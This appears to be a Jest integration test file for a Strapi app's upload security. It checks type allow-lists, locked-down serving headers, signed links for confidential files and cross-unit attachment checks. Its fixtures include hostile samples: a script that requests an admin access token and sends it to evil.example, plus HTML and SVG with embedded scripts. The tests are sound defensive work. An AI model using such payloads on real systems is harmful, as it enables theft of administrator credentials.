import fs from 'fs';
import path from 'path';
import type supertest from 'supertest';
import { setupStrapi, type TestApp } from '../helpers/strapi';
import { adminToken, apiToken } from '../helpers/auth';
import { fromDist } from '../helpers/dist';
import { createCall, createPartner, createUnit, createUnitUser, shiftDays, today } from '../helpers/participation';

/**
 * Issue 16, items 1 and 4: uploads never run on the origin, confidential files only through
 * signed links, and a unit attaches only its own fresh uploads, whatever the relation shape.
 */
type Row = Record<string, unknown> & { id: number; documentId: string };
type UploadedFile = Row & { url: string; name: string; mime: string };
const FILE = 'plugin::upload.file';

// eslint-disable-next-line @typescript-eslint/no-require-imports
const JSZip = require('jszip');
// eslint-disable-next-line @typescript-eslint/no-require-imports
const sharp = require('sharp');

const PDF = Buffer.from('%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n');
const HTML = Buffer.from('<!doctype html><html><body><script>document.title="RAN";fetch("/admin/access-token",{method:"POST"})</script></body></html>');
const JS = Buffer.from('fetch("/admin/access-token",{method:"POST"}).then(r=>r.text()).then(t=>navigator.sendBeacon("https://evil.example",t))');
const SVG = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>document.title="RAN"</script></svg>');
let PNG: Buffer;
let DOCX: Buffer;

let app: TestApp;
let token: string;
let adminJwt: string;
const jwt = {} as Record<'unitA' | 'unitB', string>;
const proposal = {} as Record<'unitA' | 'unitB', string>;
const UPLOADS = () => path.join(app.strapi.dirs.static.public, 'uploads');
const made: string[] = [];

const asUnit = (who: 'unitA' | 'unitB') => ({ Authorization: `Bearer ${jwt[who]}` });
const asToken = () => ({ Authorization: `Bearer ${token}` });
const asAdmin = () => ({ Authorization: `Bearer ${adminJwt}` });

const upload = (route: string, auth: Record<string, string>, content: Buffer, filename: string, contentType: string) =>
  app.request().post(route).set(auth).attach('files', content, { filename, contentType });
const uploadOne = async (auth: Record<string, string>, content: Buffer = PDF, filename = 'lampiran.pdf', contentType = 'application/pdf') => {
  const response = await upload('/api/upload', auth, content, filename, contentType);
  expect(response.status).toBe(201);
  return response.body[0] as UploadedFile;
};
const counts = async () => ({ rows: await app.strapi.db.query(FILE).count(), disk: fs.readdirSync(UPLOADS()).length });
const attachmentsOf = async (documentId: string) =>
  (((await app.strapi.db.query('api::proposal.proposal').findOne({ where: { documentId }, populate: { attachments: { select: ['id'] } } })) as Row).attachments as Row[]).map((file) => file.id).sort();
const pathOf = (url: string) => new URL(url, 'http://x').pathname;
const signer = () => fromDist<{ uploadUrlSigner: () => { sign: (p: string, now?: number) => string } }>('src/uploads').uploadUrlSigner();

/** A file that pre-dates the allow-list: its bytes in public/uploads and its Media Library row. */
const legacyFile = async (ext: string, content: Buffer, mime: string) => {
  const hash = `legacy_${Math.random().toString(36).slice(2, 10)}`;
  fs.writeFileSync(path.join(UPLOADS(), `${hash}${ext}`), content);
  made.push(`${hash}${ext}`);
  return (await app.strapi.db.query(FILE).create({
    data: { name: `annex${ext}`, hash, ext, mime, size: 1, url: `/uploads/${hash}${ext}`, provider: 'local' },
  })) as UploadedFile;
};

beforeAll(async () => {
  PNG = await sharp({ create: { width: 8, height: 8, channels: 3, background: '#c00' } }).png().toBuffer();
  const zip = new JSZip();
  zip.file('[Content_Types].xml', '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>');
  zip.file('word/document.xml', '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>');
  DOCX = await zip.generateAsync({ type: 'nodebuffer' });

  app = await setupStrapi();
  const { strapi } = app;
  await createCall(strapi, shiftDays(today(), 10));
  const partner = await createPartner(strapi);
  for (const who of ['unitA', 'unitB'] as const) {
    jwt[who] = (await createUnitUser(strapi, app.request, await createUnit(strapi, 'department'))).jwt;
    const created = await app.request().post('/api/proposals').set(asUnit(who)).send({ data: { title: `Usulan ${who}`, objectives: 'T', plannedYear: 2027, partner: partner.documentId } });
    expect(created.status).toBe(201);
    proposal[who] = created.body.data.documentId;
  }
  token = await apiToken(strapi);
  adminJwt = await adminToken(strapi, app.request);
});
afterAll(async () => {
  for (const name of made) fs.rmSync(path.join(UPLOADS(), name), { force: true });
  for (const file of (await app?.strapi.db.query(FILE).findMany()) ?? []) {
    for (const url of [file.url, ...Object.values((file.formats ?? {}) as Record<string, { url: string }>).map((format) => format.url)]) fs.rmSync(path.join(UPLOADS(), path.basename(url)), { force: true });
  }
  await app?.destroy();
});

describe('only allowed documents and images, by their content, for every uploader', () => {
  const HOSTILE: Array<[string, Buffer, string, string]> = [
    ['an HTML page', HTML, 'annex.html', 'text/html'],
    ['a script', JS, 'helper.js', 'application/javascript'],
    ['an SVG with a script', SVG, 'logo.svg', 'image/svg+xml'],
    ['HTML declared and named as a PDF', HTML, 'annex.pdf', 'application/pdf'],
    ['HTML declared and named as a PNG', HTML, 'logo.png', 'image/png'],
    ['a PDF named as an HTML page', PDF, 'annex.html', 'application/pdf'],
    ['a ZIP archive named as a Word document', Buffer.from('PK\u0003\u0004'), 'surat.docx', 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'],
  ];
  const DOORS: Array<[string, string, () => Record<string, string>]> = [
    ['a unit user (content API)', '/api/upload', () => asUnit('unitA')],
    ['an API token (content API)', '/api/upload', asToken],
    ['an admin (Media Library)', '/upload', asAdmin],
    ['an admin (Media Library, one file)', '/upload/files', asAdmin],
  ];

  describe.each(DOORS)('%s', (_, route, auth) => {
    test.each(HOSTILE)('%s is refused with 400 naming files, and nothing is stored', async (__, content, filename, contentType) => {
      const before = await counts();
      const response = await upload(route, auth(), content, filename, contentType);
      expect(response.status).toBe(400);
      expect(response.body.error.details.errors[0].path).toEqual(['files']);
      expect(response.body.error.message).toMatch(/tidak diterima.*not accepted/);
      expect(await counts()).toEqual(before);
    });
  });

  test('replacing a file with HTML is refused (content API and Media Library), the file is unchanged', async () => {
    const file = await uploadOne(asToken());
    const bytes = fs.readFileSync(path.join(UPLOADS(), path.basename(pathOf(file.url))));
    for (const [route, auth] of [[`/api/upload?id=${file.id}`, asToken()], [`/upload?id=${file.id}`, asAdmin()]] as const) {
      const response = await upload(route, auth, HTML, 'annex.pdf', 'application/pdf');
      expect(response.status).toBe(400);
      expect(response.body.error.details.errors[0].path).toEqual(['files']);
    }
    expect(fs.readFileSync(path.join(UPLOADS(), path.basename(pathOf(file.url))))).toEqual(bytes);
    expect((await app.strapi.db.query(FILE).findOne({ where: { id: file.id } })).mime).toBe('application/pdf');
  });

  test.each([
    ['a PDF', () => PDF, 'laporan.pdf', 'application/pdf'],
    ['a PNG', () => PNG, 'foto.png', 'image/png'],
    ['a DOCX', () => DOCX, 'mou.docx', 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'],
  ])('%s is accepted from a unit, stored with its detected type', async (_, content, filename, mime) => {
    const file = await uploadOne(asUnit('unitA'), content(), filename, 'application/octet-stream');
    expect(file.mime).toBe(mime);
  });
});

describe('/uploads never serves something a browser runs', () => {
  const expectLockedDown = (response: supertest.Response) => {
    expect(response.headers['x-content-type-options']).toBe('nosniff');
    expect(response.headers['content-security-policy']).toMatch(/default-src 'none'/);
    expect(response.headers['content-security-policy']).toMatch(/sandbox/);
  };

  test('a document is downloaded as an attachment with its own type', async () => {
    const file = await uploadOne(asToken());
    expect(file.url).toMatch(/^\/uploads\/.+\.pdf\?exp=\d+&sig=/);
    const response = await app.request().get(file.url);
    expect(response.status).toBe(200);
    expectLockedDown(response);
    expect(response.headers['content-type']).toBe('application/pdf');
    expect(response.headers['content-disposition']).toMatch(/^attachment; filename="lampiran.pdf"/);
  });

  test.each([
    ['.html', HTML, 'text/html'],
    ['.svg', SVG, 'image/svg+xml'],
    ['.js', JS, 'application/javascript'],
  ])('a %s file from before the allow-list is sent as opaque bytes to download', async (ext, content, mime) => {
    const file = await legacyFile(ext, content, mime);
    const response = await app.request().get(signer().sign(file.url));
    expect(response.status).toBe(200);
    expectLockedDown(response);
    expect(response.headers['content-type']).toBe('application/octet-stream');
    expect(response.headers['content-disposition']).toMatch(/^attachment/);
  });

  test('a file in public/uploads unknown to the Media Library is not served', async () => {
    const name = `orphan_${Date.now()}.html`;
    fs.writeFileSync(path.join(UPLOADS(), name), HTML);
    made.push(name);
    for (const url of [`/uploads/${name}`, signer().sign(`/uploads/${name}`)]) {
      const response = await app.request().get(url);
      expect(response.status).toBe(404);
      expect(response.text).not.toContain('<script>');
      expectLockedDown(response);
    }
  });
});

describe('confidential files only through signed, unexpired links', () => {
  let file: UploadedFile;
  let plain: string;
  beforeAll(async () => {
    file = await uploadOne(asUnit('unitA'), PDF, 'rahasia.pdf');
    plain = pathOf(file.url);
    expect((await app.request().put(`/api/proposals/${proposal.unitA}`).set(asUnit('unitA')).send({ data: { attachments: [file.id] } })).status).toBe(200);
  });

  test('the URL without a signature is not served', async () => {
    const response = await app.request().get(plain);
    expect(response.status).toBe(404);
    expect(response.body).not.toEqual(PDF);
  });

  test('a forged, altered or expired signature is refused', async () => {
    const { searchParams } = new URL(file.url, 'http://x');
    const exp = searchParams.get('exp')!;
    const sig = searchParams.get('sig')!;
    const expired = signer().sign(plain, Date.now() - 3 * 3600_000);
    for (const url of [`${plain}?exp=${exp}&sig=${'A'.repeat(sig.length)}`, `${plain}?exp=${Number(exp) + 600}&sig=${sig}`, `${plain}?sig=${sig}`, expired]) {
      expect((await app.request().get(url)).status).toBe(403);
    }
  });

  test('the links Strapi hands out are signed and work: unit read, Content Manager, Media Library', async () => {
    const unitRead = await app.request().get(`/api/proposals/${proposal.unitA}?populate=attachments`).set(asUnit('unitA'));
    const cm = await app.request().get(`/content-manager/collection-types/api::proposal.proposal/${proposal.unitA}`).set(asAdmin());
    const library = await app.request().get(`/upload/files/${file.id}`).set(asAdmin());
    const urls = [unitRead.body.data.attachments[0].url, cm.body.data.attachments[0].url, library.body.url];
    for (const url of urls) {
      expect(pathOf(url)).toBe(plain);
      const response = await app.request().get(url);
      expect(response.status).toBe(200);
      expect(Buffer.from(response.body)).toEqual(PDF);
    }
  });

  test('a partner logo is public (the directory shows it), an unattached image is not', async () => {
    const logo = await uploadOne(asToken(), PNG, 'logo.png', 'image/png');
    const loose = await uploadOne(asToken(), PNG, 'lain.png', 'image/png');
    expect((await app.request().get(pathOf(logo.url))).status).toBe(404);
    await createPartner(app.strapi, { logo: logo.id });
    const response = await app.request().get(pathOf(logo.url));
    expect(response.status).toBe(200);
    expect(response.headers['content-type']).toBe('image/png');
    expect(response.headers['content-disposition']).toBeUndefined();
    expect(response.headers['content-security-policy']).toMatch(/sandbox/);
    expect((await app.request().get(pathOf(loose.url))).status).toBe(404);
  });
});

describe('a unit attaches only its own fresh uploads, whatever the relation shape', () => {
  let foreign: Record<'attachedToB' | 'freshOfB' | 'freshOfToken', UploadedFile>;
  beforeAll(async () => {
    foreign = {
      attachedToB: await uploadOne(asUnit('unitB')),
      freshOfB: await uploadOne(asUnit('unitB')),
      freshOfToken: await uploadOne(asToken()),
    };
    expect((await app.request().put(`/api/proposals/${proposal.unitB}`).set(asUnit('unitB')).send({ data: { attachments: [foreign.attachedToB.id] } })).status).toBe(200);
  });

  type Shape = [string, (file: UploadedFile, own: number) => unknown];
  const SHAPES: Shape[] = [
    ['[id]', (file) => [file.id]],
    ['id', (file) => file.id],
    ['"id"', (file) => String(file.id)],
    ['documentId', (file) => file.documentId],
    ['{ id }', (file) => ({ id: file.id })],
    ['[{ documentId }]', (file) => [{ documentId: file.documentId }]],
    ['connect ids', (file) => ({ connect: [file.id] })],
    ['connect { id }', (file) => ({ connect: [{ id: file.id }] })],
    ['connect { documentId }', (file) => ({ connect: [{ documentId: file.documentId }] })],
    ['connect one object', (file) => ({ connect: { id: file.id } })],
    ['set', (file) => ({ set: [{ id: file.id }] })],
    ['set documentIds', (file) => ({ set: [file.documentId] })],
    ['positional before', (file, own) => ({ connect: [{ id: file.id, position: { before: own } }] })],
    ['positional after', (file, own) => ({ connect: [{ id: file.id, position: { after: own } }] })],
    ['positional start', (file) => ({ connect: [{ id: file.id, position: { start: true } }] })],
    ['positional end', (file) => ({ connect: [{ documentId: file.documentId, position: { end: true } }] })],
    ['disconnect and connect', (file, own) => ({ disconnect: [own], connect: [file.id] })],
  ];

  describe.each(['attachedToB', 'freshOfB', 'freshOfToken'] as const)('a file %s', (which) => {
    test.each(SHAPES)('through %s is refused, nothing changes', async (_, shape) => {
      const before = await attachmentsOf(proposal.unitA);
      const response = await app.request().put(`/api/proposals/${proposal.unitA}`).set(asUnit('unitA')).send({ data: { attachments: shape(foreign[which], before[0]) } });
      expect(response.status).toBe(400);
      expect(response.body.error.details.errors[0].path).toEqual(['attachments']);
      expect(await attachmentsOf(proposal.unitA)).toEqual(before);
    });
  });

  test('a shape the rule cannot read is refused', async () => {
    const before = await attachmentsOf(proposal.unitA);
    for (const attachments of [{ connect: [{ id: { $gt: 0 } }] }, { connect: [1], extra: true }, [true]]) {
      const response = await app.request().put(`/api/proposals/${proposal.unitA}`).set(asUnit('unitA')).send({ data: { attachments } });
      expect(response.status).toBe(400);
    }
    expect(await attachmentsOf(proposal.unitA)).toEqual(before);
  });

  test('through GraphQL and at creation too', async () => {
    const before = await attachmentsOf(proposal.unitA);
    const gql = await app.request().post('/graphql').set(asUnit('unitA')).send({
      query: 'mutation($id: ID!, $a: [ID]) { updateProposal(documentId: $id, data: { attachments: $a }) { documentId } }',
      variables: { id: proposal.unitA, a: [String(foreign.attachedToB.id)] },
    });
    expect(gql.body.errors?.[0]?.extensions?.error?.name).toBe('ValidationError');
    expect(await attachmentsOf(proposal.unitA)).toEqual(before);
    const create = await app.request().post('/api/proposals').set(asUnit('unitA')).send({ data: { title: 'Curian', objectives: 'T', plannedYear: 2027, prospectivePartnerName: 'PT X', attachments: { connect: [{ documentId: foreign.freshOfB.documentId }] } } });
    expect(create.status).toBe(400);
    expect(await app.strapi.db.query('api::proposal.proposal').count({ where: { title: 'Curian' } })).toBe(0);
  });

  test.each(SHAPES)("the unit's own fresh upload through %s is accepted", async (_, shape) => {
    const own = await uploadOne(asUnit('unitA'));
    const before = await attachmentsOf(proposal.unitA);
    const replaces = _ === 'id' || _ === '"id"' || _ === 'documentId' || _ === '{ id }' || _.startsWith('[') || _.startsWith('set');
    const value = shape(own, before[0]);
    const response = await app.request().put(`/api/proposals/${proposal.unitA}`).set(asUnit('unitA')).send({ data: { attachments: value } });
    expect(response.status).toBe(200);
    const after = await attachmentsOf(proposal.unitA);
    expect(after).toContain(own.id);
    if (replaces) {
      // Put the earlier attachments back, so the next shape has one to position against.
      expect((await app.request().put(`/api/proposals/${proposal.unitA}`).set(asUnit('unitA')).send({ data: { attachments: [...before, own.id] } })).status).toBe(200);
    }
  });
});
